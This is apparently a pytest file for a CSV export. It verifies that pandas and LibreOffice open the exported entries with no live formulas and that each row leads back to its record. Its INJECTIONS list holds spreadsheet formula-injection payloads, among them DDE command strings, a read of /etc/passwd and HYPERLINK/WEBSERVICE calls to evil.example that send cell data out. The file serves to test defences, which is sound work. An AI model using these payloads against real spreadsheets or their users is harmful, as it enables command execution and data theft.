"""The CSV in strangers' hands: pandas and LibreOffice open it, find no formula, and every row leads to its record."""

from __future__ import annotations

import csv
import shutil
import subprocess
import zipfile
from typing import TYPE_CHECKING

import pandas as pd

from exports import render_csv
from tests.exports.exported import entry

if TYPE_CHECKING:
    from pathlib import Path

    from exports.rows import ExportedEntry

INJECTIONS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1,1)",
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("soffice";"/etc/passwd";"A1")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\0=1+1",
    "＝1+1",  # noqa: RUF001 the look-alikes are the point
    "＋1+1",  # noqa: RUF001
    "－1+1",  # noqa: RUF001
    "＠SUM(1,1)",  # noqa: RUF001
    "  =1+1",
    "\u00a0=1+1",
    '"=1+1',
    '",=1+1',
    "'=1+1",
    "x;=1+1",
    "x|=1+1",
    'x","=1+1',
    "x\r\n=1+1,=1+1",
    "\ufeff=1+1",
    "\u202e=1+1",
]
TEXT_COLUMNS = "/".join(f"{number}/2" for number in range(1, len(render_csv.COLUMNS) + 1))
# Comma, quotation mark, UTF-8, from line 1. The last word lets LibreOffice take what it can for a formula.
WITH_FORMULAS = "44,34,76,1,,0,false,true,false,false,false,-1,true"
AS_TEXT = f"44,34,76,1,{TEXT_COLUMNS},0,false,false,false,false,false,-1,false"
SHEET = "xl/worksheets/sheet1.xml"


def entries() -> list[ExportedEntry]:
    """Return an entry for each text, which stands in every column that a writer fills."""
    return [
        entry(number, actor=text, target=text, action=text, source=text, event_id=text, data={text: text})
        for number, text in enumerate(INJECTIONS)
    ]


def exported(directory: Path) -> Path:
    file = directory / "entries.csv"
    file.write_bytes(render_csv.header() + render_csv.rows(entries()))
    return file


def opened_by_libreoffice(directory: Path, to: str, filter_options: str, *files: Path) -> None:
    """Let LibreOffice open CSV files and save each as `to`, beside a profile of its own."""
    soffice = shutil.which("soffice")
    assert soffice, "the tests need LibreOffice Calc"
    command = [soffice, f"-env:UserInstallation=file://{directory}/profile", "--headless"]
    command += [f"--infilter=CSV:{filter_options}", "--convert-to", to, "--outdir", str(directory / "out")]
    subprocess.run([*command, *map(str, files)], check=True, capture_output=True, timeout=120)


def formulas(workbook: Path) -> int:
    """Return how many cells of the sheet have a formula."""
    with zipfile.ZipFile(workbook) as archive:
        sheet = archive.read(SHEET)
    return sheet.count(b"<f>") + sheet.count(b"<f ")


def test_pandas_reads_rows_that_lead_back_to_their_records(tmp_path: Path) -> None:
    frame = pd.read_csv(exported(tmp_path), dtype=str, keep_default_na=False)
    assert tuple(frame.columns) == render_csv.COLUMNS
    rows = frame.to_dict("records")
    assert [render_csv.record_of({str(k): v for k, v in row.items()}) for row in rows] == [
        one.record for one in entries()
    ]


def test_pandas_reads_plain_texts_and_times_without_any_option(tmp_path: Path) -> None:
    file = tmp_path / "plain.csv"
    file.write_bytes(render_csv.header() + render_csv.rows([entry(0), entry(1)]))
    frame = pd.read_csv(file, parse_dates=["occurred_at", "recorded_at"])
    assert list(frame["actor"]) == ["user-0", "user-1"]
    assert [str(at) for at in frame["recorded_at"]][1] == "2026-11-23 05:40:01.000007+00:00"


def test_libreoffice_finds_no_formula(tmp_path: Path) -> None:
    raw = tmp_path / "raw.csv"
    with raw.open("w", encoding="utf-8", newline="") as target:
        csv.writer(target).writerows([text.replace("\0", "")] for text in INJECTIONS)
    opened_by_libreoffice(tmp_path, "xlsx", WITH_FORMULAS, raw, exported(tmp_path))
    assert formulas(tmp_path / "out" / "raw.xlsx") > 5, "these texts are formulas if nobody neutralises them"
    assert formulas(tmp_path / "out" / "entries.xlsx") == 0


def test_rows_that_libreoffice_saved_again_lead_back_to_their_records(tmp_path: Path) -> None:
    opened_by_libreoffice(tmp_path, "csv:Text - txt - csv (StarCalc):44,34,76,1", AS_TEXT, exported(tmp_path))
    with (tmp_path / "out" / "entries.csv").open(encoding="utf-8", newline="") as source:
        rows = list(csv.DictReader(source))
    assert [render_csv.record_of(row) for row in rows] == [one.record for one in entries()]
